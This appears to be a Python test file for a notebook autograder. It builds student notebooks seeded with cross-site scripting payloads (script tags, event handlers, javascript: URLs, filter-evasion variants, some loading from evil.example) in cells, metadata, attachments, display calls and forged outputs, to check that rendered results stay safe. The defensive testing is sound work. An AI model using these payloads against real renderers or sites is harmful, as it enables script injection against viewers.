"""Notebooks that want to run something in the browser of whoever looks at the result.

The tests turn what comes back into a page as nbgrader does, and look for what would run.
"""

import textwrap

from case import edited, first, hostile, last, solved

from forwardpass.grading.verdicts import Verdict

_SCRIPT = "<script>alert('KOMMANDO')</script>"

_ATTACKS = (
    _SCRIPT,
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>here</a>",
    "<form action=//evil.example><button>send</button></form>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css><object data=x></object><embed src=x>",
    "<details open ontoggle=alert(1)><video src=x onerror=alert(1)></video></details>",
    "</div></body><!--><script>alert(1)</script-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[link](javascript:alert(1)) [two](JaVaScRiPt&colon;alert(1)) [x](data:text/html,<script>)",
    '![x](x"onerror="alert(1)) [ref]\n\n[ref]: javascript:alert(1)',
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```\n`<script>alert(1)</script>`",
    "$$<script>alert(1)</script>$$ \\(<img src=x onerror=alert(1)>\\)",
    "$\\href{javascript:alert(1)}{x}$ \\begin{equation}</script><script>alert(1)\\end{equation}",
    "<p\nonclick=alert(1)>x</p> <p/onclick=alert(1)>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt; <?php x ?> <![CDATA[<script>alert(1)</script>]]>",
)


def _text(source: str) -> dict:
    return {"cell_type": "markdown", "metadata": {}, "source": source}


@hostile()
def has_scripts_in_its_text():
    def edit(made):
        made["cells"] += [_text(attack) for attack in _ATTACKS]

    return edited(edit)


@hostile()
def has_scripts_in_raw_cells():
    def edit(made):
        for kind in ("", "text/html", "text/latex", "image/svg+xml"):
            for attack in _ATTACKS:
                about = {"raw_mimetype": kind, "format": kind}
                made["cells"].append({"cell_type": "raw", "metadata": about, "source": attack})

    return edited(edit)


@hostile()
def has_scripts_in_its_code_and_comments():
    return last("\n".join(f"# {line}" for attack in _ATTACKS for line in attack.splitlines()))


@hostile()
def has_pictures_attached_that_are_scripts():
    def edit(made):
        cell = _text("![x](attachment:x.svg) ![y](attachment:y.png)")
        cell["attachments"] = {
            "x.svg": {"image/svg+xml": "<svg onload='alert(1)'></svg>"},
            "y.png": {"image/png": '"><script>alert(1)</script>'},
        }
        made["cells"].append(cell)

    return edited(edit)


@hostile()
def has_scripts_in_its_metadata():
    def edit(made):
        made["metadata"]["title"] = made["metadata"]["authors"] = _SCRIPT
        made["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": _SCRIPT}}
        for cell in made["cells"]:
            cell["id"] = _SCRIPT
            cell["metadata"]["name"] = cell["metadata"]["tags"] = [_SCRIPT]
            cell["metadata"]["nbgrader"]["grade_id"] += ""

    return edited(edit)


@hostile()
def displays_scripts():
    return first(
        textwrap.dedent(
            """
            from IPython.display import HTML, SVG, Javascript, Latex, Markdown, IFrame, display
            bad = "<script>alert('KOMMANDO')</script><img src=x onerror=alert(1)>"
            display(HTML(bad), Javascript("alert(1)"), Latex(bad), Markdown(bad))
            display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))
            display(IFrame("javascript:alert(1)", 1, 1))
            for kind in ("text/html", "image/svg+xml", "application/javascript", "text/latex",
                         "text/markdown", "application/json", "application/pdf", "text/plain",
                         "image/png", "image/jpeg", "application/vnd.jupyter.widget-view+json",
                         "application/x-evil", "text/html; charset=utf-7"):
                display({kind: bad}, raw=True)
                display({kind: [bad]}, raw=True)
            class Shown:
                def _repr_html_(self): return bad
                def __repr__(self): return bad
            Shown()
            """
        )
    )


@hostile()
def prints_scripts():
    return first(f'import sys\nprint("{_SCRIPT}")\nprint("{_SCRIPT}", file=sys.stderr)')


@hostile(Verdict.STUDENT_ERROR)
def raises_scripts():
    return first(
        f'raise type("<b onclick=alert(1)>", (Exception,), {{}})("{_SCRIPT}")',
        scale=f'def scale(X):\n    raise ValueError("{_SCRIPT}")  # {_SCRIPT}',
    )


@hostile(Verdict.FAILED)
def returns_scripts():
    return solved(
        shout=f'def shout(text):\n    print("{_SCRIPT}")\n    return "{_SCRIPT}"',
        scale=f'import warnings\ndef scale(X):\n    warnings.warn("{_SCRIPT}")\n    return "{_SCRIPT}"',
    )


@hostile(Verdict.STUDENT_ERROR)
def names_things_by_scripts():
    return solved(
        scale=(
            f'def scale(X):\n    raise type("{_SCRIPT}", (Exception,), '
            f'{{"__module__": "{_SCRIPT}"}})'
        )
    )


@hostile()
def brings_scripts_along_as_outputs():
    def edit(made):
        for cell in made["cells"]:
            cell["outputs"] = [
                {"output_type": "display_data", "data": {"text/html": _SCRIPT}, "metadata": {}},
                {"output_type": "display_data", "data": {"image/png": _SCRIPT}, "metadata": {}},
            ]

    return edited(edit)


@hostile()
def forges_outputs_past_the_display():
    """It puts what it likes where the grader reads what a cell has shown."""
    return first(
        f"""
        bad = "{_SCRIPT}"
        get_ipython().outputs._items += [
            {{"output_type": "display_data", "data": {{"text/html": bad}}, "metadata": {{"x": bad}}}},
            {{"output_type": bad, "name": bad, "text": bad}},
            {{"output_type": "stream", "name": bad, "text": bad}},
            {{"output_type": "error", "ename": bad, "evalue": bad, "traceback": [bad, 1, None]}},
            {{"output_type": "display_data", "data": {{"image/png": bad, "image/svg+xml": bad}}}},
            {{"output_type": "execute_result", "data": {{bad: bad}}, "execution_count": bad}},
            None, 7, bad, [bad],
        ]
        """
    )
